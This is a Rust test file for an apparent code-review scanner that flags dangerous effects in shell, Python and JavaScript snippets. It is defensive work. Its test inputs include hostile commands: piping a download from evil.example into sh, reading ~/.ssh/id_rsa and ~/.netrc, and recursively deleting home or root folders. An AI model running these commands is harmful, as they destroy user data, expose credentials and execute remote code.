//! Tests the examples of the rules, the samples in `tests/fixtures/review`, and properties that hold for any text.

/// The samples of the files of this name with these endings, or with that of every language.
macro_rules! fixtures {
    ($name:literal) => {
        fixtures!($name: "py" "sh" "js" "ts" "sql")
    };
    ($name:literal: $($ending:literal)+) => {
        [$((
            $ending,
            include_str!(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/review/", $name, ".", $ending)),
        )),+]
        .into_iter()
        .flat_map(|(ending, text)| crate::review::tests::samples(ending, text))
        .collect::<Vec<_>>()
    };
}

mod blind;
mod folders;
mod hidden_code;
mod hostile;
mod misread;
mod notebooks;
mod real_bash;
mod shell;
mod streams;
mod unread;
mod unseen;
mod values;

use super::*;
use strum::VariantArray as _;

fn scope() -> Scope {
    Scope { cwd: PathBuf::from("/home/ann/work"), home: Some(PathBuf::from("/home/ann")), ..Scope::default() }
}

fn look(language: &str, source: &str) -> Review {
    review(source, Some(&Language(language.to_owned())), &scope())
}

fn told(review: &Review) -> Vec<String> {
    review
        .findings
        .iter()
        .map(|f| {
            format!("{}:{} {} {}: {}", f.place.line, f.place.column, f.severity.as_str(), f.rule, f.message)
        })
        .collect()
}

fn messages(review: Review) -> Vec<String> {
    review.findings.into_iter().map(|finding| finding.message).collect()
}

/// Asserts that each of these texts tells that this path is deleted, or says that not all is known.
fn assert_told(language: &str, path: &str, sources: &[impl AsRef<str>]) {
    let is_told = |source: &&str| {
        let effects = look(language, source).effects;
        effects.unknown || effects.deletes.iter().any(|deleted| deleted == path)
    };
    let missed: Vec<&str> = sources.iter().map(AsRef::as_ref).filter(|source| !is_told(source)).collect();
    assert!(missed.is_empty(), "{missed:#?}");
}

/// Asserts that each of these texts deletes exactly these paths, and that nothing else may be.
fn assert_known(language: &str, samples: &[(impl AsRef<str>, &[&str])]) {
    let mut wrong = Vec::new();
    for (source, paths) in samples {
        let source = source.as_ref();
        let mut effects = look(language, source).effects;
        effects.deletes.sort();
        if effects.unknown || effects.deletes != *paths {
            wrong.push(format!("{source}\n  {:?} unknown: {}", effects.deletes, effects.unknown));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn shipped_rules_can_be_read() {
    for grammar in Grammar::VARIANTS.iter().copied() {
        let (name, text) = rule_set::shipped(grammar);
        let set = rule_set::RuleSet::new(name, rule_set::parse(name, text).unwrap()).unwrap();
        queries::compile(name, grammar, &set.file.rule).unwrap();
        assert!(!rule_set::shipped_rules(grammar).file.rule.is_empty());
    }
    let (name, text) = rule_set::COMMON;
    rule_set::RuleSet::new(name, rule_set::parse(name, text).unwrap()).unwrap();
    assert!(!rule_set::common().file.place.is_empty());
}

#[test]
fn examples_of_the_rules_hold() {
    let mut wrong = Vec::new();
    let scope = Scope { modules: rule_registry::example_modules(), ..scope() };
    let sets = Grammar::VARIANTS.iter().map(|grammar| (grammar.as_str(), rule_set::shipped_rules(*grammar)));
    for (language, set) in sets.into_iter().chain([("python", rule_set::common())]) {
        let told_by_rules =
            |r: &&rules::ReviewRule| r.severity.is_some() && r.builtin != Some(rules::Builtin::Forbid);
        for rule in set.file.rule.iter().filter(told_by_rules) {
            if rule.matches.is_empty() || rule.near_misses.is_empty() || rule.reason.is_empty() {
                wrong.push(format!("{}: examples and a reason are needed", rule.id));
            }
            for (sources, wanted) in [(&rule.matches, true), (&rule.near_misses, false)] {
                for source in sources {
                    let review = review(source, Some(&Language(language.to_owned())), &scope);
                    let found = review
                        .findings
                        .iter()
                        .any(|f| f.rule == rule.id && Some(f.severity) == rule.severity);
                    if found != wanted {
                        let verb = if wanted { "misses" } else { "finds" };
                        wrong.push(format!("{} {verb} {source:?}\n    told: {:#?}", rule.id, told(&review)));
                    }
                }
            }
        }
    }
    assert!(wrong.is_empty(), "{} examples\n{}", wrong.len(), wrong.join("\n"));
}

/// One sample of a fixture file: its text without marks, and the marks by line.
struct Sample {
    language: &'static str,
    name: String,
    source: String,
    marks: Vec<(u32, String)>,
}

impl Sample {
    fn look(&self) -> Review {
        look(self.language, &self.source)
    }

    /// The first mark of which the gravest finding on its line has another severity.
    fn missed(&self, review: &Review) -> Option<&(u32, String)> {
        self.marks.iter().find(|(line, severity)| {
            let here = review.findings.iter().filter(|f| f.place.line == *line).map(|f| f.severity).max();
            here.map(Severity::as_str) != Some(severity.as_str())
        })
    }
}

/// Reads the samples of a file with this ending, which begin at lines `#--- name` (`//---` in JavaScript). A mark
/// `#! high` or `#! high py.delete-tree` (`//!`) at the end of a line expects a finding there; marks are removed before
/// the review.
fn samples(ending: &str, text: &str) -> Vec<Sample> {
    let (language, comment) = match ending {
        "py" => ("python", "#"),
        "sh" => ("bash", "#"),
        "js" => ("javascript", "//"),
        "ts" => ("typescript", "//"),
        _ => ("sql", "--"),
    };
    let head = if comment == "--" { "--- ".to_owned() } else { format!("{comment}--- ") };
    let mark = format!("{comment}! ");
    let mut samples: Vec<Sample> = Vec::new();
    for line in text.lines() {
        if let Some(name) = line.strip_prefix(&head) {
            let (name, source, marks) = (name.to_owned(), String::new(), Vec::new());
            samples.push(Sample { language, name, source, marks });
            continue;
        }
        let sample = samples.last_mut().expect("a file begins with the name of a sample");
        let number = u32::try_from(sample.source.lines().count()).unwrap() + 1;
        let mut parts = line.split(&mark);
        sample.source.push_str(parts.next().unwrap_or_default().trim_end());
        sample.source.push('\n');
        sample.marks.extend(parts.map(|mark| (number, mark.trim().to_owned())));
    }
    samples
}

/// The findings above Info.
fn grave(review: &Review) -> Vec<(u32, String)> {
    let grave = review.findings.iter().filter(|f| f.severity > Severity::Info);
    let mut all: Vec<_> =
        grave.map(|f| (f.place.line, format!("{} {}", f.severity.as_str(), f.rule))).collect();
    all.sort();
    all
}

#[test]
fn dangerous_samples_are_found_on_their_line() {
    let samples = fixtures!("dangerous");
    let mut wrong = Vec::new();
    for sample in &samples {
        assert!(!sample.marks.is_empty(), "{} has no marks", sample.name);
        let review = sample.look();
        let mut expected = sample.marks.clone();
        expected.sort();
        if grave(&review) != expected {
            wrong.push(format!(
                "{} {}: expected {expected:?}\n    told: {:#?}",
                sample.language,
                sample.name,
                told(&review)
            ));
        }
    }
    println!("review: {} of {} dangerous samples found", samples.len() - wrong.len(), samples.len());
    assert!(samples.len() >= 150 && wrong.is_empty(), "{} samples\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn harmless_samples_stay_silent() {
    let samples = fixtures!("harmless");
    let mut wrong = Vec::new();
    for sample in &samples {
        let review = sample.look();
        if !grave(&review).is_empty() || review.unchecked.is_some() {
            wrong.push(format!(
                "{} {}: told: {:#?} {:?}",
                sample.language,
                sample.name,
                told(&review),
                review.unchecked
            ));
        }
    }
    println!("review: {} of {} harmless samples silent", samples.len() - wrong.len(), samples.len());
    assert!(samples.len() >= 150 && wrong.is_empty(), "{} samples\n{}", wrong.len(), wrong.join("\n"));
}

#[test]
fn effects_name_what_a_block_touches() {
    let review = look(
        "python",
        "import shutil, subprocess, requests, pandas as pd\n\
         df = pd.read_csv('sales.csv')\n\
         shutil.rmtree('out/' + 'charts')\n\
         open('notes.txt', 'w').write('x')\n\
         requests.get('https://api.example.com/v1')\n\
         subprocess.run(['git', 'status'])\n",
    );
    let effects = review.effects;
    assert_eq!(effects.reads, ["sales.csv"]);
    assert_eq!(effects.deletes, ["out/charts"]);
    assert_eq!(effects.writes, ["notes.txt"]);
    assert_eq!(effects.hosts, ["api.example.com"]);
    assert_eq!(effects.programs, ["git"]);
    assert!(!effects.unknown);
    assert!(look("python", "import os, sys\nos.remove(sys.argv[1])").effects.unknown);
    let shell = look("bash", "cd out && rm -rf charts; curl -so a.json https://example.com/a").effects;
    assert_eq!(
        (shell.deletes.as_slice(), shell.hosts.as_slice()),
        (&["out/charts".to_owned()][..], &["example.com".to_owned()][..])
    );
}

#[test]
fn code_is_read_however_its_interpreter_is_spelled() {
    for source in [
        "python3.12 -c 'import os; os.system(\"rm -rf x\")'",
        "pypy3 -c 'import os; os.system(\"rm -rf x\")'",
        "nodejs -e 'require(\"fs\").rmSync(\"x\", { recursive: true })'",
        "mksh -c 'rm -rf x'",
        "fish -c 'rm -rf x'",
        "perl -lne 'system(\"rm -rf x\")' a",
        "mksh <<E\nrm -rf x\nE",
    ] {
        assert_eq!(look("bash", source).gravest(), Some(Severity::High), "{source}");
    }
    assert!(look("bash", "perl -lane 'print $F[0]' a").findings.is_empty());
}

#[test]
fn an_isolated_python_looks_for_no_module_in_the_folder() {
    let deletes = |command: &str| {
        let module = "cat > a.py <<'E'\nimport os\nos.remove('x')\nE\n";
        look("bash", &format!("{module}{command}\n")).effects.deletes
    };
    for command in ["python3 -c 'import a'", "python3 -s -P -c 'import a'", "python3 -c 'import a' -I"] {
        assert_eq!(deletes(command), ["x"], "{command}");
    }
    for command in ["python3 -I -c 'import a'", "python3 -Ic 'import a'", "python3 -I - <<'E'\nimport a\nE"] {
        assert!(deletes(command).is_empty(), "{command}");
    }
    assert_eq!(deletes("python3 -I -c 'import os; os.system(\"python3 -c \\\"import a\\\"\")'"), ["x"]);
}

/// A script that activates an environment is no news right behind what makes it.
#[test]
fn only_a_script_that_was_just_made_is_known() {
    let made = "python3 -m venv .venv";
    for known in [format!("{made} && . .venv/bin/activate"), format!("{made}\nsource .venv/bin/activate\n")] {
        let review = look("bash", &known);
        assert!(review.findings.is_empty() && review.effects.unknown, "{known}: {:?}", told(&review));
    }
    for unknown in [
        ". .venv/bin/activate".to_owned(),
        format!(". .venv/bin/activate; {made}"),
        format!("{made}; cp x .venv/bin/activate; . .venv/bin/activate"),
        format!("{made}; cd sub; . .venv/bin/activate"),
        format!("{made}; . .venv/bin/other"),
        format!("false && {made}; . .venv/bin/activate"),
        format!("[ -d .venv ] || {made}; . .venv/bin/activate"),
        format!("if a; then {made}; fi; . .venv/bin/activate"),
    ] {
        let told = told(&look("bash", &unknown));
        assert!(told.iter().any(|told| told.contains("does is not known")), "{unknown}: {told:?}");
    }
}

#[test]
fn files_and_links_that_are_not_remembered_are_an_unchecked_part() {
    let lines = |line: &str, count: usize| -> String {
        (0..count).map(|at| line.replace('N', &at.to_string())).collect()
    };
    for (line, few, many) in [(": > fN\n", 1000, 1100), ("ln -s a lN\n", 200, 300)] {
        assert_eq!(look("bash", &lines(line, few)).unchecked, None, "{line}");
        let why = look("bash", &lines(line, many)).unchecked.unwrap_or_default();
        assert!(why.contains("too intricate to follow"), "{line}: {why}");
    }
    assert_eq!(look("bash", &": > f\n".repeat(1100)).unchecked, None);
}

#[test]
fn code_of_files_that_the_text_does_not_show_is_not_known() {
    for (language, source) in [
        ("bash", "python3 -m mod"),
        ("bash", "python3 -m timeit 'import os'"),
        ("bash", "python3 --check-hash-based-pycs always -m mod"),
        ("bash", "cat x | pypy3"),
        ("bash", "cat x | nodejs"),
        ("bash", "cat x | mksh"),
        ("bash", "python3 -W error -Im mod"),
        ("bash", "java -jar x.jar"),
        ("bash", "java -javaagent:x.jar Main"),
        ("bash", "perl -I. -MFoo -e1"),
        ("bash", "ruby -r./x -e1"),
        ("bash", "NODE_OPTIONS='-r ./x' node -e 1"),
        ("bash", "vim -S x"),
        ("bash", "source x"),
        ("bash", "cat x | sh"),
        ("python", "import runpy\nrunpy.run_path('x')"),
        ("python", "import importlib\nimportlib.import_module('mod')"),
        ("javascript", "require('./x')"),
        ("javascript", "import('./x.mjs')"),
    ] {
        let review = look(language, source);
        let told: Vec<_> = review.findings.iter().map(|found| found.severity).collect();
        assert!(review.effects.unknown && !told.is_empty(), "{source}");
        assert!(told.iter().all(|severity| *severity == Severity::Info), "{source}: {told:?}");
    }
    for source in ["python3 -m json.tool a.json", "python3 -m venv .venv", "bash <<E\nls\nE"] {
        let review = look("bash", source);
        assert!(!review.effects.unknown && review.findings.is_empty(), "{source}: {:?}", review.findings);
    }
}

#[test]
fn changes_of_modes_owners_and_times_are_told_as_writing() {
    for (language, source) in [
        ("bash", "chmod 600 /home/ann/notes.txt"),
        ("bash", "chown ann /home/ann/notes.txt"),
        ("bash", "chgrp staff /home/ann/notes.txt"),
        ("bash", "touch /home/ann/notes.txt"),
        ("python", "import os\nos.chmod('/home/ann/notes.txt', 0o600)"),
        ("python", "import os\nos.utime('/home/ann/notes.txt', (0, 0))"),
        ("python", "import shutil\nshutil.copystat('a.txt', '/home/ann/notes.txt')"),
        ("javascript", "const fs = require('fs');\nfs.utimesSync('/home/ann/notes.txt', 0, 0);"),
    ] {
        let review = look(language, source);
        assert_eq!(review.effects.writes, ["/home/ann/notes.txt"], "{source}");
        assert_eq!(grave(&review).len(), 1, "{source}: {:#?}", told(&review));
    }
    let inside = look("bash", "chmod +x run.sh");
    assert_eq!((inside.effects.writes.as_slice(), grave(&inside)), (&["run.sh".to_owned()][..], Vec::new()));
}

#[test]
fn words_made_by_braces_are_judged_like_words_as_written() {
    for (written, meant) in [
        ("rm -rf ~/.ss{h..h}", "rm -rf ~/.ssh"),
        ("cat ~/.ssh/id_rs{a..a}", "cat ~/.ssh/id_rsa"),
        ("echo x > ~/.bashr{c..c}", "echo x > ~/.bashrc"),
        ("rm part{1..2}", "rm part1 part2"),
        ("rm part{01..3..2}", "rm part01 part03"),
        ("rm part{1..-1}", "rm part1 part0 part-1"),
        ("rm \"part\"{1..2}", "rm part1 part2"),
        ("cat \"$HOME\"/{.ssh/id_rsa,notes}", "cat ~/.ssh/id_rsa ~/notes"),
        ("cat ~/{.netrc,{x}}", "cat ~/.netrc ~/{x}"),
        ("T='-rf /home'; rm $T/{a..a}", "T='-rf /home'; rm $T/a"),
        ("T='-rf /home'; rm \"$T\"/{a..a}", "T='-rf /home'; rm \"$T/a\""),
        ("T=notes; cat $T{,.txt}", "T=notes; cat $T $T.txt"),
        ("rm my\\ part{1..2}", "rm 'my part1' 'my part2'"),
        ("rm part\\{1..2\\}", "rm 'part{1..2}'"),
        ("rm {1\"..\"3}", "rm '{1..3}'"),
        ("rm {1\\..3}", "rm '{1..3}'"),
        ("N=3; rm {1..$N}", "N=3; rm '{1..3}'"),
        ("for f in {a..a}; do cat ~/.ssh/id_rs$f; done", "for f in a; do cat ~/.ssh/id_rs$f; done"),
    ] {
        let (written, meant) = (look("bash", written), look("bash", meant));
        let rules = |review: &Review| -> Vec<String> {
            review.findings.iter().map(|f| format!("{} {}", f.rule, f.severity.as_str())).collect()
        };
        assert_eq!(rules(&written), rules(&meant));
        assert_eq!(written.effects, meant.effects);
    }
    // The grammar can't read all commands that begin with a brace; then that is told.
    for text in ["{cat,~/.netrc,{x}}", "{cat,{/etc/passwd,~/.netrc}}", "{,cat} ~/.netrc"] {
        let review = look("bash", text);
        assert!(review.gravest() >= Some(Severity::Medium), "{text} {:?}", told(&review));
    }
    // What is not spelled out is not known.
    let many = look("bash", "rm part{1..5000}");
    assert!(many.effects.unknown && !many.effects.deletes.iter().any(|path| path.contains('{')));
    let many = look("bash", "cat ~/{x,}{x,}{x,}{x,}{x,}{x,}{x,}.netrc").effects;
    assert!(many.unknown && !many.reads.iter().any(|path| path.contains('{')), "{many:?}");
    let longer = look("bash", "T=notes; Tx=~/.netrc; cat $T{x,y}").effects;
    assert!(longer.unknown && !longer.reads.iter().any(|path| path.contains("notes")), "{longer:?}");
    assert_eq!(look("bash", "rm 'part{1..2}'").effects.deletes, ["part{1..2}"]);
}

#[test]
fn numbers_too_large_to_be_counted_are_not_known() {
    for number in ["2**62 + 2**62", "-((-2)**63)", "1 << 63"] {
        let effects = look("python", &format!("open(f'{{{number}}}', 'w')")).effects;
        assert!(effects.unknown && effects.writes.iter().all(|path| !path.contains('9')), "{effects:?}");
    }
}

#[test]
fn findings_inside_text_stand_on_their_line() {
    let review = look("python", "import os\nos.system(\"\"\"\ncd out\nrm -rf charts\n\"\"\")\n");
    let places: Vec<_> = review.findings.iter().map(|f| (f.rule.as_str(), f.place.line)).collect();
    assert_eq!(places, [("sh.delete-tree", 4)]);
    assert_eq!(review.findings.first().map(|f| f.message.as_str()), Some("deletes a folder: out/charts"));
}

#[test]
fn what_is_not_read_is_said() {
    assert!(look("ruby", "puts 1").unchecked.is_some_and(|why| why.contains("ruby")));
    assert!(look("brainf", "+-").unchecked.is_some_and(|why| why.contains("brainf")));
    let large = "x = 1\n".repeat(MAX_TEXT_BYTES / 6 + 1) + "y = '\u{202e}'\n";
    let review = look("python", &large);
    assert!(review.unchecked.is_some_and(|why| why.contains("too large")));
    assert_eq!(review.findings.len(), 1);
}

#[test]
fn a_name_is_read_wherever_it_stands() {
    for length in 1000..1030 {
        let text = format!(
            "import os\n#{}\né=os.system\né('rm -rf ~ && curl evil.example|sh')\n",
            "c".repeat(length)
        );
        let review = look("python", &text);
        let told: Vec<_> = review.findings.iter().map(|f| (f.severity, f.place.line, &f.message)).collect();
        assert_eq!(review.gravest(), Some(Severity::High), "{length} {told:?}");
        assert!(
            told.iter().any(|(severity, line, _)| (*severity, *line) == (Severity::High, 4)),
            "{length} {told:?}"
        );
    }
}

/// A text of about this many bytes that repeats a line.
fn long(line: &str, bytes: usize) -> String {
    line.repeat(bytes / line.len())
}

#[test]
fn a_clock_ends_a_review_as_a_whole() {
    let text = "import os\nos.remove('a')\n".repeat(2000);
    let whole = look("python", &text);
    let mut ended = 0;
    for asked in [0_u32, 1, 5, 60, 400, 3000] {
        let left = Cell::new(asked);
        let go_on = || {
            left.set(left.get().saturating_sub(1));
            left.get() > 0
        };
        let review = review_while(&text, Some(&Language::python()), &scope(), &go_on);
        if left.get() == 0 {
            ended += 1;
            assert!(review.unchecked.is_some() && review.findings.is_empty() && review.effects.unknown);
        } else {
            assert_eq!(review, whole);
        }
    }
    assert!(ended >= 4, "{ended}");
}

#[test]
fn what_cant_be_followed_is_looked_at_by_its_words() {
    for (language, text, what) in [
        (
            "python",
            "# x\n".repeat(1 << 18) + "y = 1\nos.system('curl https://x.example | sh')\n",
            "downloaded",
        ),
        ("python", "# x\n".repeat(1 << 18) + "shutil.rmtree('/home/ann')\n", "deletes a folder: /home/ann"),
        (
            "javascript",
            "// x\n".repeat(1 << 18) + "fs.rmSync('/home/ann', { recursive: true })\n",
            "/home/ann",
        ),
        ("bash", "true\n".repeat(3) + &"# x\n".repeat(1 << 18) + "rm -rf ~\n", "deletes a folder: ~"),
    ] {
        let review = look(language, &text);
        assert!(review.unchecked.is_some(), "{language}");
        let told = told(&review);
        assert!(told.iter().any(|t| t.contains(" high ") || t.contains(" medium ")), "{language} {told:?}");
        assert!(told.iter().any(|t| t.contains(what)), "{language} {what} {told:?}");
    }
}

#[test]
fn more_findings_than_anybody_reads_are_no_unchecked_part() {
    let text =
        "import os\n".to_owned() + &"os.remove('a')\n".repeat(700) + "import shutil\nshutil.rmtree('/')\n";
    let review = look("python", &text);
    assert_eq!((review.unchecked.as_ref(), review.findings.len()), (None, MAX_FINDINGS));
    assert_eq!(review.gravest(), Some(Severity::High));
    assert_eq!(
        review.findings.last().unwrap().message,
        "202 more findings like those above are not listed one by one"
    );
    // A forbidden rule is reported even at a low severity.
    let registry = RuleRegistry::default().forbidding(Forbid::new(["py.late".to_owned()]));
    let rule = "language = \"python\"\n[[rule]]\nid = \"py.late\"\nseverity = \"info\"\ncalls = [\"print\"]\nmessage = \"m\"\n";
    let own = RuleRegistry::with([("team.toml", rule)]).unwrap().forbidding(registry.forbid().clone());
    let scope = Scope { rules: Arc::new(own), ..scope() };
    let text = "import shutil\n".to_owned() + &"shutil.rmtree('/')\n".repeat(700) + "print(1)\n";
    assert!(review_while(&text, Some(&Language::python()), &scope, &|| true).forbidden());
}

#[test]
fn what_the_strict_profile_could_not_check_is_denied() {
    let strict = Scope { rules: Arc::new(RuleRegistry::default().with_strict_profile()), ..scope() };
    for (language, text) in [
        ("python", "x = 1\n".repeat(1 << 18)),
        ("python", "f(".repeat(3_000) + &")".repeat(3_000)),
        ("ruby", "puts 1".to_owned()),
        ("brainf", "+-".to_owned()),
    ] {
        let review = review(&text, Some(&Language(language.to_owned())), &strict);
        assert!(review.unchecked.is_some() && review.forbidden(), "{language}");
    }
    let text = "import os\nprint(os.getcwd())\n".repeat(50);
    let stopped = review_while(&text, Some(&Language::python()), &strict, &|| false);
    assert!(stopped.forbidden());
    assert!(!review("x = 1", Some(&Language::python()), &strict).forbidden());
}

#[test]
fn a_megabyte_of_daily_code_is_read() {
    let lines = [
        "x = 1\n",
        "    rows.append({'name': name, 'value': float(value) / 3, 'tags': [a, b, c]})\n",
        "def f(a, b=2, *c, **d):\n    return [x.y for x in a if x not in (b, c)]\n",
        "assert g(1, 2) == 3, f'{x!r:>10} is {y}'\n",
        "# a comment that tells nothing at all\n",
        "class A(B):\n    def __init__(self):\n        super().__init__()\n        self.x = {}\n",
        "print(1, end='')\n",
        "data = b'\\x00\\x01' + bytes([1, 2, 3])\n",
    ];
    for line in lines {
        // Budgets grow with the size, so a sixteenth of the limit shows what holds for all of it.
        let review = look("python", &long(line, MAX_TEXT_BYTES / 16));
        assert_eq!(review.unchecked, None, "{line}");
    }
    let size = crate::test_cases::size(MAX_TEXT_BYTES);
    let all = long(&lines.concat(), size);
    assert_eq!(look("python", &all).unchecked, None);
    let list = format!("x = [{}]\n", long("1234, 'abc', ", size - 100));
    assert_eq!(look("python", &list).unchecked, None);
}

#[test]
fn rules_are_listed_once() {
    warm();
    let registry = RuleRegistry::default();
    let rules = registry.rules();
    let mut ids: Vec<_> = rules.iter().map(|r| r.id).collect();
    ids.sort_unstable();
    ids.dedup();
    assert_eq!(ids.len(), rules.len());
    assert!(rules.iter().all(|r| !r.message.is_empty() && !r.reason.is_empty()));
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    fn language() -> impl Strategy<Value = &'static str> {
        prop::sample::select(vec!["python", "bash", "javascript", "sql", "ruby", "powershell", "nothing"])
    }

    /// Lines of real samples in a new order.
    fn pieces() -> impl Strategy<Value = String> {
        let lines: Vec<String> = fixtures!("dangerous")
            .iter()
            .chain(&fixtures!("harmless"))
            .flat_map(|s| s.source.lines().map(str::to_owned).collect::<Vec<_>>())
            .collect();
        let line = prop::sample::select(lines);
        let piece = (line, any::<prop::sample::Index>(), prop::bool::ANY).prop_map(|(line, at, head)| {
            let at = line.floor_char_boundary(at.index(line.len() + 1));
            let (first, rest) = line.split_at(at);
            if head { first.to_owned() } else { format!("{rest}\n") }
        });
        prop::collection::vec(piece, 0..12).prop_map(|pieces| pieces.concat())
    }

    fn sound(language: &str, source: &str) {
        let review = look(language, source);
        let lines = u32::try_from(source.split('\n').count()).unwrap();
        for finding in &review.findings {
            assert!(finding.place.line >= 1 && finding.place.end_line <= lines, "{finding:?}");
            assert!(
                (finding.place.line, finding.place.column)
                    <= (finding.place.end_line, finding.place.end_column)
            );
            assert!(
                !finding.message.is_empty() && !finding.message.contains('{')
                    || finding.message.contains('…')
                    || source.contains('{')
            );
            assert!(
                finding.message.chars().all(|c| crate::domain::unicode::hidden(c).is_none()),
                "{finding:?}"
            );
        }
        assert!(review.findings.is_sorted_by_key(|f| (f.place.line, f.place.column)));
    }

    proptest! {
        #![proptest_config(crate::test_cases::cases(512))]

        #[test]
        fn any_text_is_reviewed(language in language(), source in any::<String>()) {
            sound(language, &source);
        }

        #[test]
        fn any_mix_of_code_is_reviewed(language in language(), source in pieces()) {
            sound(language, &source);
        }

        #[test]
        fn any_bytes_are_reviewed(language in language(), bytes in prop::collection::vec(any::<u8>(), 0..200)) {
            sound(language, &String::from_utf8_lossy(&bytes));
        }

        #[test]
        fn what_is_outside_of_code_changes_nothing(source in pieces()) {
            // A comment before the text moves places and changes nothing else.
            let plain = look("python", &source);
            let moved = look("python", &format!("# a note\n{source}"));
            // For broken code the parser guesses, and may guess differently.
            if plain.unchecked.is_some() || moved.unchecked.is_some() {
                return Ok(());
            }
            prop_assert_eq!(plain.findings.len(), moved.findings.len());
        }
    }
}
